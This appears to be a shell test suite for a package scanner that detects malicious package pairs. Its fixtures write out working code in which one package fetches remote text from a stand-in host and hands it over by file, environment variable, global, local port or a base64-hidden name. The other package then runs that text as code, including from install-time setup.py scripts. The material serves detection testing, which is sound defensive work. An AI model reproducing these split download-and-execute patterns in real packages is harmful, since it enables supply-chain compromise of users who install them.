# pairs_test.sh - several packages judged as one program: inert pairs, written here. Neither half is malicious alone.
. "$(dirname "$0")/lib.sh"

# package NAME [MORE-JSON]: its index.js comes on standard input
package() {
    mkdir -p "$tmp/$1"
    printf '{"name":"%s","version":"1.0.0","main":"index.js"%s}\n' "$(basename "$1")" "${2-}" >"$tmp/$1/package.json"
    cat >"$tmp/$1/index.js"
}
# pair NAME RULE: after a scan in JSON lines into $tmp/out: exactly one pair, of that rule, and no half malicious alone
pair() {
    check "$1" python3 -c 'import json,sys
reports=[json.loads(l) for l in open(sys.argv[1])]
pairs=[r for r in reports if any(f["rule"].startswith("closure/") for f in r["findings"])]
assert [f["rule"] for r in pairs for f in r["findings"]] == [sys.argv[2]], pairs
assert all(r["verdict"] != "malicious" for r in reports if r not in pairs), reports
steps=[s["says"] for s in pairs[0]["story"]]
assert steps[0].startswith("first: "+sys.argv[3]) and steps[1].startswith("then: "+sys.argv[4]), steps
assert len(pairs[0]["findings"][0]["evidence"]) == 2' "$tmp/out" "$2" "$3" "$4"
}

package file/ledger <<'JS'
const fs = require('fs'), path = require('path'), os = require('os');
fetch('https://tok.example.invalid/a').then(r => r.text()).then(t => fs.writeFileSync(path.join(os.homedir(), '.lgr', 'state'), t));
JS
package file/tints <<'JS'
const fs = require('fs');
const p = process.env.HOME + '/.lgr/state';
if (fs.existsSync(p)) eval(fs.readFileSync(p, 'utf8'));
JS
expect 'a file' 1 ratter scan --format jsonl "$tmp/file/ledger" "$tmp/file/tints"
pair 'is one pair' closure/file ledger tints
expect 'the reader alone' 0 ratter scan --format jsonl "$tmp/file/tints"
lacks 'is half of nothing' out closure/
expect 'the other order of arguments' 1 ratter scan --format jsonl "$tmp/file/tints" "$tmp/file/ledger"
pair 'changes nothing' closure/file ledger tints

package env/ledger <<'JS'
fetch('https://tok.example.invalid/a').then(r => r.text()).then(t => { process.env.LGR_STATE = t; });
JS
package env/tints <<'JS'
if (process.env.LGR_STATE) eval(process.env.LGR_STATE);
JS
expect 'the environment' 1 ratter scan --format jsonl "$tmp/env/ledger" "$tmp/env/tints"
pair 'is one pair' closure/name ledger tints

package global/ledger <<'JS'
fetch('https://tok.example.invalid/a').then(r => r.text()).then(t => { globalThis.__lgr = t; });
JS
package global/tints <<'JS'
setTimeout(() => { if (global.__lgr) new Function(global.__lgr)(); }, 1000);
JS
expect 'a global' 1 ratter scan --format jsonl "$tmp/global/ledger" "$tmp/global/tints"
pair 'is one pair' closure/name ledger tints

package port/ledger <<'JS'
const http = require('http');
let state = '';
fetch('https://tok.example.invalid/a').then(r => r.text()).then(t => { state = t; });
http.createServer((q, a) => a.end(state)).listen(45117, '127.0.0.1');
JS
package port/tints <<'JS'
require('http').get('http://127.0.0.1:45117/', a => { let b = ''; a.on('data', d => b += d); a.on('end', () => eval(b)); });
JS
expect 'a port' 1 ratter scan --format jsonl "$tmp/port/ledger" "$tmp/port/tints"
pair 'is one pair' closure/port ledger tints

package name/ledger <<'JS'
exports.state = () => fetch('https://tok.example.invalid/a').then(r => r.text());
JS
package name/tints <<'JS'
require(Buffer.from('bGVkZ2Vy', 'base64').toString()).state().then(s => eval(s));
JS
expect 'a name' 1 ratter scan --format jsonl "$tmp/name/ledger" "$tmp/name/tints"
pair 'is one pair' closure/package ledger tints

mkdir -p "$tmp/py/ledger" "$tmp/py/tints"
cat >"$tmp/py/ledger/setup.py" <<'PY'
import os, urllib.request
from setuptools import setup
open(os.path.join(os.path.expanduser('~'), '.lgr', 'state'), 'w').write(urllib.request.urlopen('https://tok.example.invalid/a').read().decode())
setup(name='ledger', version='1.0')
PY
cat >"$tmp/py/tints/setup.py" <<'PY'
import os
from setuptools import setup
exec(open(os.path.expanduser('~/.lgr/state')).read())
setup(name='tints', version='1.0')
PY
expect 'Python writes, Python reads' 1 ratter scan --format jsonl "$tmp/py/ledger" "$tmp/py/tints"
holds 'is a pair as well' out closure/file

# ---- an installed tree, each format, and the exit status
mkdir -p "$tmp/app/node_modules"
cp -r "$tmp/env/ledger" "$tmp/env/tints" "$tmp/app/node_modules/"
printf '{"name":"app","version":"1.0.0","dependencies":{"ledger":"1","tints":"1"}}\n' >"$tmp/app/package.json"
expect 'a node_modules' 1 ratter scan "$tmp/app"
holds 'tells the pair' out 'ledger@1.0.0 with tints@1.0.0'
holds 'the first half' out 'first: ledger@1.0.0 sets env LGR_STATE, with what a server sent \[ledger/index.js:1\]'
holds 'and the second' out 'then: tints@1.0.0 reads env LGR_STATE, runs it as code \[tints/index.js:1\]'
expect 'as SARIF' 1 ratter scan --format sarif "$tmp/app"
check 'has both files' python3 -c 'import json,sys
results=[r for r in json.load(open(sys.argv[1]))["runs"][0]["results"] if r["ruleId"]=="closure/name"]
assert len(results)==1
text=json.dumps(results[0])
assert "node_modules/ledger/index.js" in text and "node_modules/tints/index.js" in text, text' "$tmp/out"
expect 'as JSON' 1 ratter scan --format json "$tmp/app"
holds 'has the rule' out closure/name
expect 'the fail-on that names no verdict' 0 ratter scan --fail-on none "$tmp/app"
expect 'again, out of the cache' 1 ratter scan "$tmp/app"
holds 'tells the pair too' out 'ledger@1.0.0 with tints@1.0.0'
cat >"$tmp/app/package-lock.json" <<'J'
{"name":"app","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"app","version":"1.0.0","dependencies":{"ledger":"1","tints":"1"}},"node_modules/ledger":{"version":"1.0.0"},"node_modules/tints":{"version":"1.0.0"}}}
J
expect 'an audit with content' 1 ratter audit --intel none --no-home --scan "$tmp/app"
holds 'judges the closure as one program' out 'ledger@1.0.0 with tints@1.0.0'

# ---- what is honest
package kin/tool ',"dependencies":{"tool-core":"1"}' <<'JS'
const fs = require('fs'), os = require('os');
fetch('https://dl.example.invalid/tool').then(r => r.arrayBuffer()).then(b => fs.writeFileSync(os.homedir() + '/.cache/tool/bin', Buffer.from(b)));
JS
package kin/tool-core <<'JS'
require('child_process').spawn(require('os').homedir() + '/.cache/tool/bin', ['--serve']);
JS
expect 'an installer and what starts its program' 0 ratter scan --format jsonl "$tmp/kin/tool" "$tmp/kin/tool-core"
lacks 'are no pair' out closure/
finish
